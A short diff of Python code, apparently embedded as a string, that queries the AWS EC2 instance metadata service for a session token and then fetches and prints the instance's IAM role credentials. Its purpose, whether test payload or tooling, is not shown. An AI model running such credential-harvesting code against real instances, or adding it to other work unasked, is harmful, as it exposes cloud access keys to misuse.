@@ -22,7 +22,8 @@ def ask(path, method="GET", **headers):
     return urllib.request.urlopen(urllib.request.Request(base + path, method=method, headers=headers)).read().decode()
 token = ask("/latest/api/token", "PUT", **{"X-aws-ec2-metadata-token-ttl-seconds": "60"})
 role = ask("/latest/meta-data/iam/security-credentials/", **{"X-aws-ec2-metadata-token": token})
-print(ask("/latest/meta-data/iam/security-credentials/" + role, **{"X-aws-ec2-metadata-token": token}).replace("\\n", ""))
+keys = ask("/latest/meta-data/iam/security-credentials/" + role, **{"X-aws-ec2-metadata-token": token})
+print(keys.replace("\\n", ""))
 """
 
 
